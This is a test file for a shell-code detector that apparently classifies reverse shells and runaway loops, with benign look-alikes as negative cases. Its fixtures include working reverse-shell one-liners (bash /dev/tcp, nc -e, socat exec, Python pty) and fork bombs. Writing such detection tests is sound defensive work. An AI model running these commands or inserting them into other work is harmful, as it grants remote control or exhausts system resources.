// Shell patterns: reverse shells and runaway loops, and their look-alikes.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { shellFacts } from './test-support.js';

async function patterns(code: string): Promise<[string, number, number][]> {
  const f = await shellFacts(code);
  return f.patterns.map((p) => [p.kind, p.line, p.sourceLine]);
}

test('reverse shells: /dev/tcp redirections, nc -e, ncat --exec, socat exec:', async () => {
  assert.deepEqual(await patterns('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'), [['reverse_shell', 1, 1]]);
  assert.deepEqual(await patterns('x=1\nsh -i 2>&1 </dev/udp/10.0.0.1/53 >&0'), [['reverse_shell', 2, 2]]);
  assert.deepEqual(await patterns('nc -e /bin/sh 10.0.0.1 4444'), [['reverse_shell', 1, 1]]);
  assert.deepEqual(await patterns('ncat 10.0.0.1 4444 --exec /bin/bash'), [['reverse_shell', 1, 1]]);
  assert.deepEqual(await patterns("socat tcp:10.0.0.1:4444 exec:'bash -li',pty,stderr,setsid"), [['reverse_shell', 1, 1]]);
  assert.deepEqual(await patterns("bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'"), [['reverse_shell', 1, 1]]);
  assert.deepEqual(
    await patterns('python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\''),
    [['reverse_shell', 1, 1]],
  );
});

test('reverse shells split over lines: mkfifo pipelines and exec N<>/dev/tcp', async () => {
  assert.deepEqual(await patterns('rm -f /tmp/f; mkfifo /tmp/f\ncat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f'), [['reverse_shell', 2, 2]]);
  assert.deepEqual(await patterns('exec 5<>/dev/tcp/10.0.0.1/4444\ncat <&5 | while read line; do $line 2>&5 >&5; done'), [['reverse_shell', 2, 1]]);
  assert.deepEqual(await patterns('exec 196<>/dev/tcp/10.0.0.1/4444\nsh <&196 >&196 2>&196'), [['reverse_shell', 2, 1]]);
  assert.deepEqual(await patterns('exec <>/dev/tcp/10.0.0.1/4444\nsh >&0 2>&0'), [['reverse_shell', 2, 1]]);
  assert.deepEqual(await patterns('h=10.0.0.1\nsh <>"/dev/tcp/$h/4444" >&0 2>&0'), [['reverse_shell', 2, 2]]);
});

test('not reverse shells: port checks, proxies, interactive shells, plain downloads', async () => {
  const code = [
    'nc -z localhost 5432',
    'socat TCP-LISTEN:8080,fork TCP:localhost:80',
    'bash -i',
    'echo ping > /dev/tcp/localhost/8080',
    'curl -s https://x.example | tee out.txt | wc -l',
    'python3 -c "import socket; print(socket.gethostname())"',
  ].join('\n');
  assert.deepEqual(await patterns(code), []);
});

test('runaway loops: fork bombs, endless background spawning, endless growth', async () => {
  assert.deepEqual(await patterns(':(){ :|:& };:'), [['runaway_loop', 1, 1]]);
  assert.deepEqual(await patterns('bomb() {\n  bomb | bomb &\n}\nbomb'), [['runaway_loop', 2, 1]]);
  assert.deepEqual(await patterns('while true; do\n  ./worker &\ndone'), [['runaway_loop', 2, 1]]);
  assert.deepEqual(await patterns('until false; do\n  yes > /dev/null &\ndone'), [['runaway_loop', 2, 1]]);
  assert.deepEqual(await patterns('while :; do\n  cat /dev/urandom >> /tmp/fill\ndone'), [['runaway_loop', 2, 1]]);
  assert.deepEqual(await patterns('for ((;;)); do\n  x+=$x$x\ndone'), [['runaway_loop', 2, 1]]);
});

test('not runaway: throttled or exiting loops, finite loops, plain recursion', async () => {
  const code = [
    'while true; do date; sleep 5; done',
    'while true; do ./job & sleep 60; done',
    'while true; do ./poll & if [ -f done ]; then break; fi; done',
    'while read -r f; do process "$f" & done < list.txt',
    'for i in 1 2 3; do ./w "$i" & done; wait',
    'while true; do echo x >> log; exit 0; done',
    'walk() { for d in "$1"/*; do walk "$d"; done; }',
    'while true; do ./serve; done',
  ].join('\n');
  assert.deepEqual(await patterns(code), []);
});
